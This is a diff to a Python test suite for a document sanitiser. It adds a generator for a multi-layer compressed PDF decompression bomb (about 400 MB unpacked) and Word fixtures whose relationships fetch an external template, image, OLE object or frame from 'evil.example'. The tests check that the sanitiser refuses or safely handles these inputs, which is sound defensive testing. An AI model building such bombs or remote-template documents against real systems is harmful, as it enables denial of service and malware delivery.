@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import contextlib
 import io
+import resource
 import zipfile
+import zlib
 
 import pikepdf
 import pillow_heif
@@ -49,6 +52,37 @@ def a_docx(**parts: bytes) -> bytes:
         for name, content in parts.items():
             archive.writestr(f"word/{name}", content)
     return buffer.getvalue()
+
+
+def a_pdf_bomb(megabytes: int, layers: int) -> bytes:
+    """A page that needs an object out of a stream of objects which unpacks to that much."""
+    packer = zlib.compressobj(9)
+    inner = packer.compress(b"5 0 << /A 1 >> ")
+    for _ in range(megabytes):
+        inner += packer.compress(b" " * 1024 * 1024)
+    inner += packer.flush()
+    for _ in range(layers - 1):
+        inner = zlib.compress(inner, 9)
+    filters = b"[" + b" /FlateDecode" * layers + b"]"
+    bodies = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /X 5 0 R >>",
+        b"<< /Type /ObjStm /N 1 /First 4 /Filter %b /Length %d >>\nstream\n%b\nendstream"
+        % (filters, len(inner), inner),
+    ]
+    out, entries = b"%PDF-1.5\n", b"\x00\x00\x00\x00\x00\xff"
+    for number, body in enumerate(bodies, 1):
+        entries += b"\x01" + len(out).to_bytes(4, "big") + b"\x00"
+        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
+    at = len(out)
+    entries += b"\x02" + (4).to_bytes(4, "big") + b"\x00\x01" + at.to_bytes(4, "big") + b"\x00"
+    table = b"<< /Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R /Length %d >>" % len(entries)
+    return out + b"6 0 obj\n%b\nstream\n%b\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (
+        table,
+        entries,
+        at,
+    )
 
 
 class TestPictures:
@@ -158,6 +192,26 @@ class TestDocuments:
                       {"activeX/activeX1.xml": b"x"}):  # fmt: skip
             with pytest.raises(Invalid):
                 clean(a_docx(**parts), "letter.docx")
+
+    def _fetching(self, kind: str) -> bytes:
+        """A document with a part that lies elsewhere."""
+        rel = f'<Relationship Type="http://x/{kind}" Target="https://evil.example/t" TargetMode="External"/>'
+        return a_docx(**{"_rels/settings.xml.rels": f"<Relationships>{rel}</Relationships>".encode()})
+
+    @pytest.mark.parametrize("kind", ["attachedTemplate", "image", "oleObject", "frame"])
+    def test_a_word_document_that_fetches_something_is_refused(self, kind: str) -> None:
+        """Macros need not be in a document: it can name a template that has them."""
+        with pytest.raises(Invalid):
+            clean(self._fetching(kind), "x.docx")
+        assert clean(self._fetching("hyperlink"), "x.docx").name == "x.docx"
+
+    @pytest.mark.parametrize("layers", [1, 2, 3])
+    def test_a_pdf_bomb_is_not_unpacked(self, layers: int) -> None:
+        """Bytes that would become 400 MB: without that part or not at all, and the memory is never taken."""
+        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+        with contextlib.suppress(Invalid):
+            assert len(clean(a_pdf_bomb(400, layers), "x.pdf").content) < FILE_LIMIT
+        assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 150 * 1024
 
     @pytest.mark.parametrize(
         "content",
